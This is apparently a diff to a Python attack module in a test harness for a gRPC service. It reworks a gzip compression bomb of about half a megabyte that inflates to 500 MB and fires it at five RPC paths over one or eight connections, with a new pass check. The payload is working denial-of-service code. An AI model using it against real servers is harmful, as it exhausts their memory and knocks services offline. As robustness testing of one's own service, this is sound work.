@@ -1,22 +1,31 @@
 """Messages that are small on the wire (compression bombs), and calls without a credential."""
+import struct
 import threading
 import time
 import zlib
 
 import http2
 from attacks.registry import attack
-from http2 import Closed, Connection, grpc_fields, message
+from http2 import Connection, grpc_fields, message
 
-BOMB_BYTES = 500 << 20
+BOMB_BYTES, BLOCK_BYTES = 500 << 20, 1 << 20
 PATHS = ("/distro.v1.AggregatorService/Join", "/grpc.health.v1.Health/Check", "/distro.v1.AggregatorService/UploadUpdate",
          "/distro.v1.AdminService/CreateRun", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
 CALLS_PER_SECOND = 100
 
 
 def bomb():
-    """Half a megabyte that inflates to 500 MB."""
-    packer, zeros = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(1 << 20)
-    return b"".join(packer.compress(zeros) for _ in range(BOMB_BYTES >> 20)) + packer.flush()
+    """Half a megabyte that inflates to 500 MB: the same block of zeros, packed once, over and over."""
+    zeros, packer, sum_of_all = bytes(BLOCK_BYTES), zlib.compressobj(9, zlib.DEFLATED, -15), 0
+    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    for _ in range(BOMB_BYTES // BLOCK_BYTES):
+        sum_of_all = zlib.crc32(zeros, sum_of_all)
+    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
+    return head + block * (BOMB_BYTES // BLOCK_BYTES) + end + struct.pack("<II", sum_of_all, BOMB_BYTES)
+
+
+def thrown(_, told):
+    return [] if told["statuses"] else ["no bomb was thrown"]
 
 
 def throw(target, number, data, told):
@@ -46,12 +55,12 @@ def throw_from(target, connections):
     return {"statuses": told}
 
 
-@attack("bomb", "gzip: 0.5 MB that inflate to 500 MB, on five rpcs, one connection", in_all=False)
+@attack("bomb", "gzip: 0.5 MB that inflate to 500 MB, on five rpcs, one connection", in_all=False, check=thrown)
 def one_bomb(target):
     return throw_from(target, 1)
 
 
-@attack("bombs", "the same over eight connections")
+@attack("bombs", "`bomb` over eight connections", check=thrown)
 def bombs(target):
     return throw_from(target, 8)
 
